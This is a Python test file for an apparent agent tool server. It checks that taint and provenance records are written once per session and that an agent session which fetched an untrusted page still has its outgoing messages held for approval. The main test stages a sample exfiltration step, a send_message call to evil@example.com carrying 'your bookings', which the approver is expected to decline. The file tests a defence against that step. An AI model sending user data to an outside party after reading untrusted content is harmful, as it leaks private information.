"""Taint and provenance rows are written once: a result seen again sends no write for them, and the
gate reads what the first one wrote."""

from __future__ import annotations

from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from dialstack.agent.toolclient import ToolClient
from dialstack.tools.sessions import Written


async def test_an_untrusted_page_fetched_again_writes_no_taint_or_provenance_and_still_gates_its_address(server, store) -> None:  # type: ignore[no-untyped-def]
    asked: list[str] = []

    async def approver(tool: str, args: dict[str, Any], reason: str) -> bool:
        asked.append(tool)
        return False

    statements: list[str] = []
    async with ToolClient(server, approver=approver) as tools:
        first = await tools.call("fetch_page", {"url": "https://example.com/a"}, session="s")
        await tools.call("fetch_page", {"url": "https://example.com/a"}, session="s")  # copies the connection's new taint in
        store._conn.set_trace_callback(statements.append)
        again = await tools.call("fetch_page", {"url": "https://example.com/a"}, session="s")
        store._conn.set_trace_callback(None)
        sent = await tools.call("send_message", {"to": "evil@example.com", "body": "your bookings"}, session="s")
    assert first.ok and again.ok and again.data == first.data
    assert not [s for s in statements if "INTO provenance" in s or "INTO context_kinds" in s]
    assert sent.approval == "declined" and asked == ["send_message"]


async def test_another_session_fetching_the_same_page_records_its_own_taint(server, store) -> None:  # type: ignore[no-untyped-def]
    async with ToolClient(server) as tools:
        for session in ("s1", "s2"):
            await tools.call("fetch_page", {"url": "https://example.com/a"}, session=session)
    assert store.context_kinds("s1") == store.context_kinds("s2") == frozenset({"untrusted"})


rows = st.sets(st.tuples(st.sampled_from("abc"), st.sampled_from("xyz")), max_size=6)


@given(batches=st.lists(rows, max_size=8), limit=st.integers(1, 10))
def test_written_never_hides_a_row_it_was_not_told_was_written(batches: list[set[tuple[str, str]]], limit: int) -> None:
    written = Written(limit=limit)
    done: set[tuple[str, str]] = set()
    for batch in batches:
        new = written.new(batch)
        assert new <= batch and batch - done <= new  # only rows marked done may be skipped
        written.done(new)
        done |= new
